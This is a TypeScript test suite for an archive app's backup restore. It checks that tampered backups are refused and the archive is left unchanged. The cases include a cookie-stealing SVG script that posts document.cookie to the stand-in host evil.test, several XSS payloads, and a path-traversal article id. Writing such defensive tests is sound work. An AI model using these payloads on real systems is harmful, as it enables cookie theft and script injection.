/**
 * Issue 11, class 5: restore trusts the records. Backups whose records, reading states, body files
 * or assets break the schema the store writes (wrong types, a null title, over-long fields, ids
 * that are paths, fields the store never writes, an `.svg` or `.html` asset, a page named as a
 * PNG) are refused by the real CLI with exit 2 and the first problem named, and the archive is
 * left exactly as it was: `list`, `show` and `verify` work afterwards. Each backup is a good one
 * rewritten (checksums and manifest made consistent again), so only the content is wrong.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import { open } from 'node:fs/promises';
import { join } from 'node:path';
import { writeBackup } from '../backup/backup.ts';
import { MANIFEST_NAME, MANIFEST_SUM_NAME, RECORDS_NAME, SETTINGS_NAME, type BackupManifest } from '../backup/manifest.ts';
import { scanTar, TarWriter } from '../backup/tar.ts';
import type { ExtractedArticle } from '../model.ts';
import { ArchiveStore } from '../store/store.ts';
import { syntheticArticle, syntheticOriginal } from '../testing/synthetic.ts';
import { assertOnlyImportedContent, assertVerifyClean, filesUnder, runCli, tempDir } from './escape-support.ts';

const sha256 = (bytes: Uint8Array | string): string => createHash('sha256').update(bytes).digest('hex');
const encode = (text: string): Uint8Array => new TextEncoder().encode(text);

/** A PNG-signed image of our own, distinct per seed. */
function png(seed: number): Uint8Array {
  const bytes = new Uint8Array(200 + seed);
  bytes.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  for (let i = 8; i < bytes.length; i++) bytes[i] = (i * 17 + seed) & 0xff;
  return bytes;
}

/** An archive of `count` synthetic articles (every other one with an image); returns its folder and the originals' bytes. */
async function archiveOf(count: number, from: number): Promise<{ dir: string; originals: Uint8Array[] }> {
  const dir = join(tempDir('hostile-restore-'), 'archive');
  const store = await ArchiveStore.open(dir);
  const originals: Uint8Array[] = [];
  for (let i = from; i < from + count; i++) {
    const base = syntheticArticle(i);
    const image = png(i);
    const article: ExtractedArticle = i % 2 === 0 ? { ...base, html: `${base.html}<p><img src="asset:${sha256(image)}.png" alt="the pier"></p>`, assets: [{ sha256: sha256(image), ext: 'png', bytes: image }] } : base;
    const original = syntheticOriginal(i, article);
    originals.push(original.bytes);
    await store.addArticle({ article, original });
  }
  await store.close();
  return { dir, originals };
}

/** A backup taken apart: its records (parsed, editable) and every other file by path, in order. */
interface OpenBackup {
  records: { meta: Record<string, unknown> & { id: string; assets: string[]; captures: Record<string, unknown>[] }; reading: unknown }[];
  files: Map<string, Uint8Array>;
}

async function readBackup(file: string): Promise<OpenBackup> {
  const files = new Map<string, Uint8Array>();
  await scanTar(file, (entry) => {
    const parts: Uint8Array[] = [];
    return {
      write: (chunk) => void parts.push(Uint8Array.from(chunk)),
      end: () => void files.set(entry.name, Buffer.concat(parts)),
    };
  });
  const records = new TextDecoder().decode(files.get(RECORDS_NAME)).split('\n').filter(Boolean).map((l) => JSON.parse(l) as OpenBackup['records'][number]);
  return { records, files };
}

/** Writes `backup` as a well-formed backup file (manifest, checksums and counts made to match its content). */
async function writeBackupFile(backup: OpenBackup, out: string): Promise<string> {
  const { files } = backup;
  files.set(RECORDS_NAME, encode(backup.records.map((r) => `${JSON.stringify(r)}\n`).join('')));
  const order = [RECORDS_NAME, SETTINGS_NAME, ...[...files.keys()].filter((p) => p !== RECORDS_NAME && p !== SETTINGS_NAME && p !== MANIFEST_NAME && p !== MANIFEST_SUM_NAME)];
  const previous = JSON.parse(new TextDecoder().decode(files.get(MANIFEST_NAME))) as BackupManifest;
  const manifest: BackupManifest = { ...previous, articles: backup.records.length, entries: order.map((path) => ({ path, size: files.get(path)!.length, sha256: sha256(files.get(path)!) })) };
  const manifestBytes = encode(`${JSON.stringify(manifest, null, 1)}\n`);
  const handle = await open(out, 'w');
  const tar = new TarWriter(handle);
  await tar.add(MANIFEST_NAME, manifestBytes.length, [manifestBytes]);
  const sum = encode(`${sha256(manifestBytes)}  ${MANIFEST_NAME}\n`);
  await tar.add(MANIFEST_SUM_NAME, sum.length, [sum]);
  for (const path of order) await tar.add(path, files.get(path)!.length, [files.get(path)!]);
  await tar.finish();
  await handle.close();
  return out;
}

const bodyPath = (id: string): string => `articles/${id.slice(0, 2)}/${id}.json`;

/** Rewrites the body of record `index` through `edit`, and points its record at the new body. */
function editBody(backup: OpenBackup, index: number, edit: (body: Record<string, unknown>) => unknown): void {
  const record = backup.records[index]!;
  const path = bodyPath(record.meta.id);
  const edited = edit(JSON.parse(new TextDecoder().decode(backup.files.get(path))) as Record<string, unknown>);
  const bytes = encode(typeof edited === 'string' ? edited : JSON.stringify(edited));
  backup.files.set(path, bytes);
  record.meta.bodySha256 = sha256(bytes);
}

/** Adds `bytes` as an asset named `<sha256>.<ext>` of the first record that has no image yet. */
function addAsset(backup: OpenBackup, bytes: Uint8Array, ext: string): string {
  const name = `${sha256(bytes)}.${ext}`;
  backup.files.set(`assets/${name}`, bytes);
  const record = backup.records.find((r) => r.meta.assets.length === 0);
  assert.ok(record, 'the sample has an article without images');
  record.meta.assets.push(name);
  return name;
}

const SVG_WITH_SCRIPT = encode('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>fetch("https://evil.test/"+document.cookie)</script></svg>');
const HTML_WITH_SCRIPT = encode('<!doctype html><html><body><script>alert(document.domain)</script></body></html>');

/** Each way a backup can break the schema, and the problem restore must name first. */
const CASES: { name: string; edit(backup: OpenBackup): void; problem: RegExp }[] = [
  { name: 'a null title', edit: (b) => void (b.records[0]!.meta.title = null), problem: /line 1: meta\.title is null, expected a string of 1 to 1000 characters/ },
  { name: 'a title that is a number', edit: (b) => void (b.records[1]!.meta.title = 42), problem: /line 2: meta\.title is number 42/ },
  { name: 'an over-long title', edit: (b) => void (b.records[0]!.meta.title = 'x'.repeat(1001)), problem: /meta\.title is a string of 1001 characters, expected a string of 1 to 1000/ },
  { name: 'tags as a string', edit: (b) => void (b.records[0]!.meta.tags = 'a,b'), problem: /meta\.tags is "a,b", expected a list/ },
  { name: 'a length as text', edit: (b) => void (b.records[0]!.meta.length = '12'), problem: /meta\.length is "12", expected a whole number/ },
  { name: 'captures as an object', edit: (b) => void (b.records[0]!.meta.captures = {} as never), problem: /meta\.captures is an object, expected a list of 1 to/ },
  { name: 'no capture at all', edit: (b) => void (b.records[0]!.meta.captures = []), problem: /meta\.captures is a list of 0, expected a list of 1 to/ },
  { name: 'a capture of an unknown format', edit: (b) => void (b.records[0]!.meta.captures[0]!.format = 'exe'), problem: /meta\.captures\[0\]\.format is "exe", expected one of html/ },
  { name: 'a date that is markup', edit: (b) => void (b.records[0]!.meta.publishedAt = '<script>alert(1)</script>'), problem: /meta\.publishedAt is "<script>alert\(1\)<\/script>", expected an ISO 8601 date/ },
  { name: 'a language tag that is markup', edit: (b) => void (b.records[0]!.meta.lang = '"><img src=x onerror=alert(1)>'), problem: /meta\.lang is .*, expected a BCP 47 language tag/ },
  { name: 'an id that is a path', edit: (b) => void (b.records[0]!.meta.id = '../../../../tmp/x'), problem: /meta\.id is "\.\.\/\.\.\/\.\.\/\.\.\/tmp\/x", expected an article id/ },
  { name: 'an upper-case id', edit: (b) => void (b.records[0]!.meta.id = 'ABCDEF0123456789'), problem: /meta\.id is "ABCDEF0123456789"/ },
  { name: 'a field the store never writes', edit: (b) => void (b.records[0]!.meta.html = '<script>alert(1)</script>'), problem: /meta\.html is not a field this app writes/ },
  { name: 'a reading state out of range', edit: (b) => void (b.records[0]!.reading = { progress: 7, lastOpenedAt: '2024-01-01T00:00:00.000Z' }), problem: /reading\.progress is number 7, expected a number from 0 to 1/ },
  { name: 'a body whose HTML is not text', edit: (b) => editBody(b, 0, (body) => ({ ...body, html: { evil: true } })), problem: /articles\/.*\.json\.html is an object, expected a string/ },
  { name: 'a body that is not JSON', edit: (b) => editBody(b, 1, () => '{"id": '), problem: /articles\/.*\.json is not JSON/ },
  { name: 'the body of another article', edit: (b) => editBody(b, 0, (body) => ({ ...body, id: b.records[1]!.meta.id })), problem: /is the body of another article/ },
  { name: 'ruby outside the paragraphs', edit: (b) => editBody(b, 0, (body) => ({ ...body, ruby: [{ paragraph: 999, offset: 0, base: '網', text: 'wǎng' }] })), problem: /ruby\[0\] points outside the paragraphs/ },
  { name: 'a body whose record copy has a null title', edit: (b) => editBody(b, 0, (body) => ({ ...body, recovery: { ...(body.recovery as object), title: null } })), problem: /recovery\.title is null/ },
  { name: 'an .svg asset holding a script', edit: (b) => void addAsset(b, SVG_WITH_SCRIPT, 'svg'), problem: /meta\.assets\[0\] is "[0-9a-f]{64}\.svg", expected an image asset name/ },
  { name: 'an .html asset holding a script', edit: (b) => void addAsset(b, HTML_WITH_SCRIPT, 'html'), problem: /meta\.assets\[0\] is "[0-9a-f]{64}\.html", expected an image asset name/ },
  { name: 'an SVG named as a PNG', edit: (b) => void addAsset(b, SVG_WITH_SCRIPT, 'png'), problem: /assets\/[0-9a-f]{64}\.png is not the image its name says \(its bytes are not a PNG, JPEG, GIF, WebP, AVIF or BMP image\)/ },
  { name: 'a GIF named as a PNG', edit: (b) => void addAsset(b, encode('GIF89a\x01\x00\x01\x00 a tiny gif of our own'), 'png'), problem: /is not the image its name says \(its bytes are a GIF image\)/ },
  { name: 'a file no record refers to', edit: (b) => void b.files.set(`assets/${sha256(png(99))}.png`, png(99)), problem: /assets\/[0-9a-f]{64}\.png belongs to no article/ },
];

test('a backup rewritten without changes restores (the rewriting keeps a backup valid)', { timeout: 180_000 }, async () => {
  const source = await archiveOf(3, 0);
  const store = await ArchiveStore.open(source.dir);
  const file = join(tempDir('hostile-restore-file-'), 'good.tar');
  await writeBackup(store, file);
  await store.close();
  const rewritten = await writeBackupFile(await readBackup(file), `${file}.rewritten`);
  const target = join(tempDir('hostile-restore-target-'), 'archive');
  const run = runCli(['--archive', target, '--json', 'restore', rewritten]);
  assert.equal(run.status, 0, run.stdout + run.stderr);
  assert.equal((JSON.parse(run.stdout) as { articles: number }).articles, 3);
  assert.equal(runCli(['--archive', target, 'list']).status, 0);
  assertVerifyClean(target);
  assertOnlyImportedContent(target, source.originals);
});

test('a backup breaking the store schema anywhere is refused with the problem named, exit 2, the archive unchanged', { timeout: 600_000 }, async () => {
  const source = await archiveOf(3, 10);
  const store = await ArchiveStore.open(source.dir);
  const good = join(tempDir('hostile-restore-file-'), 'good.tar');
  await writeBackup(store, good);
  await store.close();
  const target = await archiveOf(2, 40);
  const before = new Map(filesUnder(target.dir).map((f) => [f, sha256(readFileSync(join(target.dir, f)))]));
  const fresh = join(tempDir('hostile-restore-fresh-'), 'not-yet-an-archive');

  for (const [i, c] of CASES.entries()) {
    const backup = await readBackup(good);
    c.edit(backup);
    const file = await writeBackupFile(backup, join(tempDir('hostile-restore-bad-'), `case-${i}.tar`));
    const run = runCli(['--archive', target.dir, 'restore', file]);
    assert.equal(run.status, 2, `${c.name}: exit ${run.status}\n${run.stdout}${run.stderr}`);
    assert.match(run.stderr, /cannot be restored: .*; nothing was changed/, c.name);
    assert.match(run.stderr, c.problem, c.name);
    const after = new Map(filesUnder(target.dir).map((f) => [f, sha256(readFileSync(join(target.dir, f)))]));
    assert.deepEqual(after, before, `${c.name}: the archive changed`);
    if (i % 6 === 0) {
      // Into a folder that is not an archive yet: nothing is created.
      assert.equal(runCli(['--archive', fresh, 'restore', file]).status, 2, c.name);
      assert.equal(existsSync(fresh), false, `${c.name}: restore created ${fresh}`);
    }
  }

  // What used to crash on every run after such a restore works, and the archive is sound.
  const list = runCli(['--archive', target.dir, '--json', 'list']);
  assert.equal(list.status, 0, list.stderr);
  const rows = JSON.parse(list.stdout) as { id: string }[];
  assert.equal(rows.length, 2);
  for (const { id } of rows) assert.equal(runCli(['--archive', target.dir, 'show', id]).status, 0);
  assertVerifyClean(target.dir);
  assertOnlyImportedContent(target.dir, target.originals);
});
